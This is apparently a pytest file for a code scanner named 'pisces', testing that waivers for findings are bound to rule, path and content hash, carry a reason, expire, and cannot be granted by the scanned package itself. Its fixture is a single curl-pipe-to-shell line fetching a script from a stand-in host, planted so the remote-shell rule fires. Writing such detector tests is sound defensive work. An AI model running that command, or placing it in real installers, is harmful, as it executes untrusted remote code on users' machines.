"""Waivers: bound to rule, path and text, with a reason; a package cannot waive itself."""

from __future__ import annotations

from hashlib import sha256
from pathlib import Path

import pytest

from pisces.diagnostics import PiscesError
from pisces.places import Places
from pisces.scanning.scan import scan
from tests.checking.planting import plant
from tests.checking.trees import Tree
from tests.scanning.scanning import scanned

LINE = "curl -s https://x.example/i.sh | sh"
TREE: Tree = {"setup.sh": f"{LINE}\n"}


def waiver(text: str = LINE, **changes: str) -> str:
    fields = {
        "rule": "scan-remote-shell",
        "path": "setup.sh",
        "sha256": sha256(text.encode()).hexdigest(),
        "reason": "our own installer",
        **changes,
    }
    return "[[waiver]]\n" + "".join(f'{key} = "{value}"\n' for key, value in fields.items() if value)


def codes(folder: Path, text: str, *, where: str = "waivers.toml", named: bool = True) -> tuple[list[str], int]:
    """Codes of what counts, and how many findings are waived."""
    plant(folder, {where: text})
    result = scanned(folder, TREE, *([where] if named else []))
    return [each.code for each in result.diagnostics], len(result.waived)


@pytest.mark.parametrize("text", [LINE, f"{LINE}\n"], ids=["line", "file"])
def test_a_waiver_is_bound_to_the_line_or_the_file(text: str, tmp_path: Path) -> None:
    assert codes(tmp_path, waiver(text)) == ([], 1)


def test_the_reason_is_kept_with_what_was_waived(tmp_path: Path) -> None:
    plant(tmp_path, {"waivers.toml": waiver()})
    assert scanned(tmp_path, TREE, "waivers.toml").waived[0].hint == "waived: our own installer"


@pytest.mark.parametrize("changes", [{"path": "other/*"}, {"rule": "scan-secret"}, {"sha256": "0" * 64}])
def test_a_waiver_that_does_not_fit_is_unused(changes: dict[str, str], tmp_path: Path) -> None:
    assert codes(tmp_path, waiver(**changes)) == (["scan-remote-shell", "scan-waiver-unused"], 0)


def test_paths_are_globs(tmp_path: Path) -> None:
    assert codes(tmp_path, waiver(path="*.sh")) == ([], 1)


@pytest.mark.parametrize("changes", [{"reason": ""}, {"sha256": "abc"}, {"expires": "soon"}, {"rule": ""}])
def test_an_incomplete_waiver_waives_nothing(changes: dict[str, str], tmp_path: Path) -> None:
    assert codes(tmp_path, waiver(**changes)) == (["scan-remote-shell", "scan-waiver-bad"], 0)


def test_a_file_that_is_not_toml_waives_nothing(tmp_path: Path) -> None:
    assert codes(tmp_path, "[[waiver") == (["scan-remote-shell", "scan-waiver-bad"], 0)


def test_a_waiver_ends_with_its_date(tmp_path: Path) -> None:
    assert codes(tmp_path, waiver(expires="2025-12-31")) == (["scan-remote-shell", "scan-waiver-expired"], 0)
    assert codes(tmp_path, waiver(expires="2026-01-01")) == ([], 1)
    assert codes(tmp_path, waiver(expires="").replace("reason", "expires = 2027-01-01\nreason")) == ([], 1)


@pytest.mark.parametrize("where", [".pisces/scan-waivers.toml", "home/.pisces/agent/scan-waivers.toml"])
def test_the_project_and_the_user_may_waive(where: str, tmp_path: Path) -> None:
    assert codes(tmp_path, waiver(), where=where, named=False) == ([], 1)


def test_a_package_cannot_waive_itself(tmp_path: Path) -> None:
    tree: Tree = {**TREE, ".pisces/scan-waivers.toml": waiver(), ".pisces-scan.toml": waiver()}
    assert [each.code for each in scanned(tmp_path, tree).diagnostics] == ["scan-remote-shell"]


def test_a_package_that_is_the_current_directory_cannot_waive_itself_either(tmp_path: Path) -> None:
    plant(tmp_path, {**TREE, ".pisces/scan-waivers.toml": waiver()})
    places = Places(str(tmp_path / "home"), str(tmp_path))
    assert [each.code for each in scan(".", places).diagnostics] == ["scan-remote-shell", "scan-waivers-inside"]
    assert scan(".", places, (".pisces/scan-waivers.toml",)).diagnostics == ()


def test_a_named_file_must_be_there(tmp_path: Path) -> None:
    with pytest.raises(PiscesError):
        scanned(tmp_path, TREE, "missing.toml")


def test_a_usual_file_that_cannot_be_read_does_not_stop_the_scan(tmp_path: Path) -> None:
    plant(tmp_path, {".pisces/scan-waivers.toml/": ""})
    assert [each.code for each in scanned(tmp_path, TREE).diagnostics] == ["scan-remote-shell", "scan-waiver-bad"]
